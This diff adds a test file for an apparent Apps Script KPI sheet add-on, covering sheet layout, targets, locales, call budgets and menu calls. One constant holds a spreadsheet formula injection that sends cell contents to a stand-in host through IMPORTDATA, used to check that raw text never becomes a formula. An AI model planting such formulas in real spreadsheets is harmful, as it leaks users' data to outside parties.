@@ -1,0 +1,207 @@
+import { total } from '../../local/host/counts';
+import { type Host, type HostTab, openHost } from '../../local/host/host';
+import { isFormula } from '../../local/workbook/cell';
+import type { Envelope } from '../../src/sheet/envelope';
+
+/** A formula that would send cells elsewhere, as the name of a rep. */
+const EVIL = '=IMPORTDATA("https://example.com/"&B2)';
+
+const deals: HostTab = {
+  name: 'Deals',
+  cells: [
+    ['Deal', 'Stage', 'Amount', 'Created', 'Close date', 'Owner'],
+    ...Array.from({ length: 60 }, (_, index): (string | number)[] => {
+      const month = String((index % 5) + 1).padStart(2, '0');
+      const stage = index % 3 === 0 ? 'Closed Lost' : 'Closed Won';
+      const owner = ['Ann', 'Bob', `'${EVIL}`.slice(1), '+31 6 1234'][index % 4];
+      return [`Deal ${index}`, stage, 1000 + index, `2017-${month}-02`, `2017-${month}-1${index % 9}`, owner];
+    }),
+  ],
+};
+
+const plan = {
+  period: 'month',
+  objective: 'grow revenue',
+  kpis: [
+    { id: 'win_rate', owner: '=1+1', targets: [{ from: '2017-01-01', to: '2017-12-31', target: 0.6 }] },
+    { id: 'revenue', targets: [{ from: '2017-01-01', to: '2017-12-31', target: 50_000 }] },
+    { id: 'churn' },
+  ],
+};
+
+const open = (locale = 'en_US'): Host => openHost({ dist: 'dist', tabs: [deals], locale });
+
+function build(host: Host, request: object = { plan, asOf: '2017-05-17' }): Envelope {
+  const answer = host.call('buildKpiSheet', [request]) as Envelope | null;
+  expect(host.state.complaints).toEqual([]);
+  if (answer === null) throw new Error('no answer');
+  return answer;
+}
+
+/** What the cells of a tab show, calculated. */
+function shown(host: Host, name: string): unknown[][] {
+  const sheet = host.workbook.sheetByName(name);
+  if (!sheet) throw new Error(`no tab ${name}`);
+  const { rows, columns } = host.workbook.extent(sheet);
+  return Array.from({ length: rows }, (_, row) =>
+    Array.from({ length: columns }, (_, column) => host.workbook.read(sheet, row, column).value ?? ''),
+  );
+}
+
+/** A KPI's row on the KPI sheet by header. */
+function kpiRow(host: Host, title: string, name = 'KPIs'): Record<string, unknown> {
+  const rows = shown(host, name);
+  const header = rows.find((row) => row[0] === 'KPI') as string[];
+  const row = rows.find((cells) => cells[0] === title) as unknown[];
+  return Object.fromEntries(header.map((text, index) => [text, row[index]]));
+}
+
+function edit(host: Host, title: string, header: string, value: string | number): void {
+  const rows = shown(host, 'KPIs');
+  const sheet = host.workbook.sheetByName('KPIs');
+  if (!sheet) throw new Error('no KPI sheet');
+  const row = rows.findIndex((cells) => cells[0] === title);
+  const column = (rows.find((cells) => cells[0] === 'KPI') as unknown[]).indexOf(header);
+  host.workbook.put(sheet, row, column, value);
+}
+
+describe('buildKpiSheet, as built', () => {
+  test('makes the KPI sheet, the plan tab and the tab per rep, and leaves raw tabs as they were', () => {
+    const host = open();
+    const before = shown(host, 'Deals');
+    const answer = build(host);
+    expect(answer.ok).toBe(true);
+    expect(host.workbook.sheets.map(({ name }) => name)).toEqual(['KPIs', 'KPIs per rep', 'KPI plan', 'Deals']);
+    expect(shown(host, 'Deals')).toEqual(before);
+    const report = answer.ok ? answer.data.report : null;
+    const reported = report?.kpis.find(({ id }) => id === 'win_rate');
+    expect(kpiRow(host, 'Win rate')).toMatchObject({ Actual: reported?.value, n: reported?.n, Target: 0.6 });
+    expect(kpiRow(host, 'Churn rate')).toMatchObject({ Actual: '', Status: 'no number' });
+    expect(kpiRow(host, 'Churn rate').Remark).toBe(report?.kpis.find(({ id }) => id === 'churn')?.reason);
+  });
+
+  test('an edited target shows in attainment, pace and status at once', () => {
+    const host = open();
+    build(host);
+    const { Actual, Status } = kpiRow(host, 'Revenue');
+    expect(Status).not.toBe('ahead');
+    edit(host, 'Revenue', 'Target', 10);
+    expect(kpiRow(host, 'Revenue')).toMatchObject({ Attainment: (Actual as number) / 10, Status: 'on track' });
+  });
+
+  test('reps add up to the company, whoever they are', () => {
+    const host = open();
+    build(host);
+    const rows = shown(host, 'KPIs per rep').slice(2);
+    const column = rows[0].indexOf('Revenue');
+    const company = rows.find((row) => row[0] === 'Company') as unknown[];
+    const reps = rows.slice(1).filter((row) => row !== company);
+    expect(reps.reduce((sum, row) => sum + Number(row[column]), 0)).toBeCloseTo(company[column] as number, 6);
+    expect(company[column]).toBe(kpiRow(host, 'Revenue').Actual);
+  });
+
+  test('text from raw tabs and from plans never becomes a formula', () => {
+    const host = open();
+    build(host);
+    const formulas = ['KPIs', 'KPIs per rep', 'KPI plan'].flatMap((name) => {
+      const found: string[] = [];
+      host.workbook.sheetByName(name)?.contents.each((content) => {
+        if (isFormula(content)) found.push(content.formula);
+      });
+      return found;
+    });
+    // Attainment, status, pace and change of three KPIs: nothing else is a formula.
+    expect(formulas).toHaveLength(12);
+    for (const formula of formulas) expect(formula).toMatch(/^=IF\(/);
+    expect(shown(host, 'KPIs per rep').map((row) => row[0])).toEqual(expect.arrayContaining([EVIL, '+31 6 1234']));
+    expect(kpiRow(host, 'Win rate').Owner).toBe('=1+1');
+  });
+
+  test.each(['en_US', 'nl_NL'])('a live formula gives the very number that the add-on writes, in %s', (locale) => {
+    for (const period of ['month', 'all', '2017-02-01..2017-04-30']) {
+      const host = open(locale);
+      const written = build(host, { plan: { ...plan, language: 'en', period }, asOf: '2017-05-17' });
+      const value = kpiRow(host, 'Win rate').Actual;
+      expect(typeof value).toBe('number');
+      const kpis = plan.kpis.map((kpi) => ({ ...kpi, live: true }));
+      const live = open(locale);
+      build(live, { plan: { ...plan, language: 'en', period, kpis }, asOf: '2017-05-17' });
+      expect(kpiRow(live, 'Win rate').Actual).toBe(value);
+      expect(kpiRow(live, 'Revenue').Actual).toBe(kpiRow(host, 'Revenue').Actual);
+      expect(written.ok).toBe(true);
+    }
+  });
+
+  test('a Dutch spreadsheet gets a Dutch sheet whose formulas work', () => {
+    const host = open('nl_NL');
+    build(host);
+    expect(kpiRow(host, 'Winpercentage', 'KPI’s').Status).toMatch(/schema|gevaar/);
+    expect(kpiRow(host, 'Churnpercentage', 'KPI’s').Status).toBe('geen getal');
+  });
+
+  test('building again keeps a typed owner, and asks for no more than thirty calls beside one read a tab', () => {
+    const host = open();
+    const others = (): number => {
+      const { reads, writes } = host.counts;
+      return total(reads) + total(writes) - (reads['Range.getValues'] ?? 0);
+    };
+    build(host);
+    expect(others()).toBeLessThanOrEqual(30);
+    edit(host, 'Revenue', 'Owner', 'carla@example.com');
+    host.resetCounts();
+    build(host, {});
+    expect(others()).toBeLessThanOrEqual(30);
+    expect(host.counts.reads['Range.getValues']).toBe(4);
+    expect(host.counts.readsAfterWrites).toBe(0);
+    expect(kpiRow(host, 'Revenue').Owner).toBe('carla@example.com');
+  });
+
+  test('what cannot be done comes back as a sentence', () => {
+    const refused = (request: object): string => {
+      const answer = build(open(), request);
+      return answer.ok ? '' : answer.error;
+    };
+    expect(refused({ plan: { kpis: [{ id: 'profit' }] } })).toContain('“profit” at kpis[0].id');
+    expect(refused({ asOf: 'yesterday' })).toBe('“yesterday” is no date as 2026-12-31.');
+    expect(refused({ period: 'weekly' })).toContain('“weekly” is no period');
+  });
+});
+
+describe('what Apps Script may call', () => {
+  test('opening adds the menu in every mode, in the language of the person', () => {
+    for (const [locale, label] of [
+      ['en', 'Refresh KPIs'],
+      ['nl', 'KPI’s vernieuwen'],
+    ]) {
+      const host = openHost({ dist: 'dist', tabs: [deals], user: { email: 'a@example.com', locale } });
+      host.call('onOpen', [], { caller: 'open', mode: 'NONE' });
+      expect(host.state.menu.map((item) => item.label)).toContain(label);
+    }
+  });
+
+  test('readKpis computes and writes nothing', () => {
+    const host = open();
+    const answer = host.call('readKpis', [{ plan, asOf: '2017-05-17' }]) as Envelope;
+    expect(answer.ok && answer.data.kpis.map(({ id }) => id)).toEqual(['win_rate', 'revenue', 'churn']);
+    expect(total(host.counts.writes)).toBe(0);
+  });
+
+  test('the menu refreshes and shows the page', () => {
+    const host = open();
+    host.call('refreshKpis', [], { caller: 'menu' });
+    expect(host.state.alerts).toEqual([]);
+    expect(host.workbook.sheetByName('KPIs')).toBeDefined();
+    host.call('showSidebar', [], { caller: 'menu' });
+    expect(host.state.pages).toHaveLength(1);
+  });
+
+  test.each(['onOpen', 'onInstall', 'showSidebar', 'refreshKpis', 'buildKpiSheet', 'readKpis'])(
+    '%s typed into a cell fails with a sentence and changes nothing',
+    (name) => {
+      const host = open();
+      const shownInCell = JSON.stringify(host.evaluate(`=${name}(1)`));
+      expect(shownInCell).toContain('works from the menu');
+      expect(host.workbook.sheets).toHaveLength(1);
+    },
+  );
+});
